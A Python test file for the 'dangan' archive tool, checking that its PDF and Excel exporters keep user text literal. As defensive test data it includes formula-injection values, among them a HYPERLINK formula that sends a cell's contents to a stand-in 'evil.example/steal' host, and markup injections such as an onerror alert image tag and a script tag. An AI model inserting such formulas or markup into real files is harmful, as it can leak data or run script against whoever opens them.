"""User text in the PDFs and workbooks dangan writes stays text: no ReportLab markup obeyed in
a PDF (an ``<img>`` embedding another file, an unclosed ``<b>`` failing the whole document,
``A&B公司`` losing text), no formula or error value in a workbook cell (``=HYPERLINK(…)``)."""

from __future__ import annotations

import io
import shutil
import subprocess
from datetime import datetime
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from openpyxl import Workbook, load_workbook
from PIL import Image

from dangan.domain.catalogue import CatalogueSchema
from dangan.domain.records import BorrowBatchInfo, RegisterRow
from dangan.export.borrow_register import write_borrow_register
from dangan.export.catalogue_xlsx import (
    VolumeCatalogue,
    write_catalogue_workbook,
    write_differences,
)
from dangan.export.linkdata import LinkFile, LinkItem, LinkVolume, to_xlsx
from dangan.export.reports_pdf import write_report_pdf
from dangan.export.reports_xlsx import write_report_xlsx
from dangan.export.return_list import write_return_list
from dangan.export.tracking_sheet import build_workbook
from dangan.export.workbook_save import save_workbook
from dangan.reports.document import ReportDoc, Table

NEEDS_PDFTOTEXT = pytest.mark.skipif(shutil.which("pdftotext") is None,
                                     reason="poppler-utils (pdftotext) not installed")
FORMULAS = ('=HYPERLINK("http://evil.example/steal?"&B5,"详情")', "=1+1", "@SUM(A1)",
            "+1+1", "-1+1", "#N/A")


def _image(tmp: Path) -> Path:
    path = tmp / "another-project-scan.jpg"
    Image.new("RGB", (60, 80), (200, 30, 30)).save(path, "JPEG")
    return path


def _markup(tmp: Path) -> tuple[str, ...]:
    return (f'<img src="{_image(tmp)}" width="300" height="420"/>', "<img src=x onerror=alert(1)>",
            "<b>未闭合", "<u>下划线", "A&B公司", "<script>x</script>", "a &lt; b &amp;")


def _info(texts: tuple[str, ...]) -> BorrowBatchInfo:
    at = datetime(2026, 11, 20, 9, 30)
    rows = [RegisterRow(i + 1, f"2012-民-0003-{i + 1:04d}", text, text, 12, text, "borrow", None,
                        None) for i, text in enumerate(texts)]
    return BorrowBatchInfo(4, "out", len(rows), 12 * len(rows), texts[2], texts[0], at, at, at,
                           texts[3], texts[1], None, None, texts[4], texts[5], False, rows)


def _pdf_text(path: Path) -> str:
    return subprocess.run(["pdftotext", str(path), "-"], check=True, capture_output=True,
                          text=True).stdout


def _images(path: Path) -> int:
    with pikepdf.open(path) as pdf:
        return sum(len(page.get_images()) for page in pdf.pages)


@NEEDS_PDFTOTEXT
@pytest.mark.parametrize("writer", [write_borrow_register, write_return_list])
def test_register_pdf_shows_markup_as_text(tmp_path: Path, writer: Any) -> None:
    texts = _markup(tmp_path)
    out = writer(_info(texts), tmp_path / "register.pdf", project="<b>项目 A&B公司")
    assert _images(out) == 0
    text = "".join(_pdf_text(out).split())  # the table wraps long cells
    for literal in (*texts, "<b>项目A&B公司"):
        assert "".join(literal.split()) in text, literal


@NEEDS_PDFTOTEXT
def test_report_pdf_shows_markup_as_text(tmp_path: Path) -> None:
    texts = _markup(tmp_path)
    doc = ReportDoc(title=texts[2], project=texts[0],
                    facts=((texts[3], texts[4]), ("工人", texts[1])),
                    tables=(Table(texts[5], ("工人", "本周问题"),
                                  tuple((t, t) for t in texts)),),
                    fill_in=(texts[6],))
    out = write_report_pdf(doc, tmp_path / "weekly.pdf")
    assert _images(out) == 0
    text = "".join(_pdf_text(out).split())
    for literal in texts:
        assert "".join(literal.split()) in text, literal


def _assert_text_cells(data: Any, expected: tuple[str, ...] = FORMULAS) -> None:
    """Every expected string is in the workbook as a text cell, and no cell is a formula."""
    wb = load_workbook(data)  # not data_only: a formula would read as its formula
    found: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found.update(v for v in expected if v in cell.value)
                    if cell.value in expected:
                        assert cell.data_type == "s", (cell.coordinate, cell.value)
    assert found == set(expected), set(expected) - found


@pytest.mark.parametrize("writer", [write_borrow_register, write_return_list])
def test_register_workbooks_keep_formulas_as_text(tmp_path: Path, writer: Any) -> None:
    info = _info(FORMULAS)
    _assert_text_cells(writer(info, tmp_path / "register.xlsx", project="=1+1"))


def test_report_workbook_keeps_formulas_as_text(tmp_path: Path) -> None:
    doc = ReportDoc(title="周报", project="=1+1", facts=(("问题", "@SUM(A1)"),),
                    tables=(Table("本周问题", ("工人", "问题", "件数"),
                                  tuple((v, v, 3) for v in FORMULAS)),))
    out = write_report_xlsx(doc, tmp_path / "weekly.xlsx")
    _assert_text_cells(out)
    assert load_workbook(out)["本周问题"]["C3"].value == 3  # numbers stay numbers


def test_tracking_sheet_keeps_formulas_as_text() -> None:
    data = {"project": FORMULAS[1], "archive_code": "2012-民-0003-0001", "title": FORMULAS[0],
            "problems": {"scan": list(FORMULAS[2:])}, "signatures": {"index": {"person": "=2+2",
                                                                    "remarks": "@A1"}}}
    _assert_text_cells(io.BytesIO(build_workbook(data)), (*FORMULAS[:2], "=2+2", "@A1"))


def test_write_only_workbooks_keep_formulas_as_text() -> None:
    schema = CatalogueSchema(record_fields=("title",), entry_fields=("seq", "title", "remarks"))
    out = io.BytesIO()
    entries = [{"seq": i + 1, "title": v, "remarks": v} for i, v in enumerate(FORMULAS)]
    write_catalogue_workbook(out, schema, [VolumeCatalogue("A-1", {"title": "=2+2"}, entries)])
    _assert_text_cells(out, (*FORMULAS, "=2+2"))
    wb = load_workbook(out)
    assert wb["卷内目录"]["B2"].value == 1  # integers stay numbers
    diff = io.BytesIO()
    write_differences(diff, [[v, v] for v in FORMULAS], ["=header", "b"])
    _assert_text_cells(diff, (*FORMULAS, "=header"))
    item = LinkItem(1, 1, 2, {"title": FORMULAS[0], "remarks": FORMULAS[1]},
                    [LinkFile("a/b.pdf", "pdf", 10, "0" * 64)])
    linked = to_xlsx(schema, [LinkVolume("A-1", {"title": "@SUM(A1)"}, "a", [item])])
    _assert_text_cells(io.BytesIO(linked), (*FORMULAS[:2], "@SUM(A1)"))


def test_save_workbook_turns_strings_into_text(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(list(FORMULAS))
    ws["A2"] = 7
    assert ws["A1"].data_type == "f" and ws["F1"].data_type == "e"  # openpyxl's guess
    save_workbook(wb, tmp_path / "out.xlsx")
    _assert_text_cells(tmp_path / "out.xlsx")
    assert load_workbook(tmp_path / "out.xlsx").worksheets[0]["A2"].value == 7
